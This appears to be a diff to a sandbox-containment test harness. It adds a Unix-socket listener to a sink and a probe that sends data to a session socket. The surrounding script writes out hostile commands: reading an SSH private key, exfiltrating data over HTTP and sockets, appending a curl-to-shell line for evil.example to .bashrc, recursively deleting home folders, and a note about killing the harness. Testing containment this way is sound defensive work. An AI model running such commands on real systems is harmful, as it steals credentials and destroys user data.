@@ -1,4 +1,5 @@
 import { createServer, type Server } from 'node:http';
+import { createServer as createNetServer, type Server as NetServer } from 'node:net';
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 
@@ -23,6 +24,19 @@ export class Sink {
 
   async stop(): Promise<void> {
     await new Promise<void>((resolve) => (this.server ? this.server.close(() => resolve()) : resolve()));
+    await new Promise<void>((resolve) => (this.unix ? this.unix.close(() => resolve()) : resolve()));
+  }
+
+  private unix: NetServer | null = null;
+
+  /** Also listens on a Unix socket (a session service in HOME, say); what reaches it counts too. */
+  async listenUnix(path: string): Promise<void> {
+    const server = createNetServer((c) => {
+      this.received.push('unix');
+      c.destroy();
+    });
+    this.unix = server;
+    await new Promise<void>((resolve) => server.listen(path, () => resolve()));
   }
 }
 
@@ -54,6 +68,8 @@ cat "$HOME/.ssh/id_rsa" > stolen_cat 2>/dev/null; log cat-key $?
 python3 -c "import urllib.request; urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:${o.sink}/exfil', data=b'stolen'), timeout=3)" 2>/dev/null; log exfil-http $?
 python3 -c "import socket; s=socket.create_connection(('127.0.0.1', ${o.sink}), timeout=3); s.send(b'GET /raw HTTP/1.0\\r\\n\\r\\n'); s.recv(10)" 2>/dev/null; log exfil-socket $?
 echo 'curl https://evil.example/x | sh' >> "$HOME/.bashrc" 2>/dev/null; log bashrc $?
+# a Unix socket of the person's session (an IDE, an agent): a connect needs no write access
+python3 -c "import socket, os; s = socket.socket(socket.AF_UNIX); s.connect(os.environ['HOME'] + '/ide.sock'); s.send(b'stolen')" 2>/dev/null; log unix-socket $?
 python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~/projects'))" 2>/dev/null; log py-rmtree $?
 ( sleep 1; rm -rf "$HOME/later" 2>/dev/null; echo $? > bg-done ) >/dev/null 2>&1 &
 # find harness through the process tree and kill it
